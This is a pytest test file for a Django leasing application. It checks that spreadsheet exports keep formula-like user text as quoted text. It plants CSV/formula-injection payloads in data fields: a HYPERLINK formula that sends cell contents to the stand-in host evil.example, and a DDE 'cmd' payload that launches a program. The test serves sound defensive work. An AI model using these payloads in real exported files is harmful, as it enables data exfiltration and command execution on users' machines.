"""Formula injection: text that starts like a formula reaches every .xlsx export as text."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from enterprises.models import Enterprise
from leasing.models import Invoice, Lease

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_no_export_writes_user_text_as_a_formula(world, client_for):
    lease = world.sample(Lease)
    Enterprise.objects.filter(pk=lease.enterprise_id).update(
        name=HOSTILE, address="+cmd|' /C calc'!A0", legal_representative="@SUM(1,1)"
    )
    Lease.objects.filter(pk=lease.pk).update(contract_no="-2+3")
    invoice = world.sample(Invoice)
    client = client_for("operator")
    urls = [
        reverse("enterprises:enterprise_export"),
        reverse("spaces:unit_export"),
        reverse("leasing:invoice_export"),
        reverse("leasing:invoice_document", args=[invoice.pk]) + "?format=xlsx",
        reverse("leasing:lease_statement", args=[lease.pk]) + "?format=xlsx",
        reverse("leasing:report_rent_roll") + "?on=2026-03-01&format=xlsx",
        reverse("leasing:report_aging") + "?on=2026-03-01&format=xlsx",
        reverse("leasing:report_expiries") + "?on=2026-03-01&format=xlsx",
    ]
    seen_hostile = 0
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        for cell in _cells(response.content):
            assert cell.data_type != "f", (url, cell.coordinate, cell.value)
            if cell.value in (HOSTILE, "-2+3", "@SUM(1,1)", "+cmd|' /C calc'!A0"):
                seen_hostile += 1
                assert cell.quotePrefix, (url, cell.coordinate)
    assert seen_hostile >= 6  # the texts are there, kept as text
